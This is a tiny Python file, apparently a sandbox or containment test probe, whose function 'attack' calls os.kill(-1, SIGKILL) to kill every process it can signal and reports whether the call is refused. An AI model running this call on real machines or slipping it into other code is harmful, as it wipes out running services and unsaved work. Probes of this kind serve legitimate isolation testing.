"""Signal every process there is.

ends: value or refused or stopped ended
"""

import os, signal


def attack():
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError as error:
        return f"refused: {error}"
    return "sent"
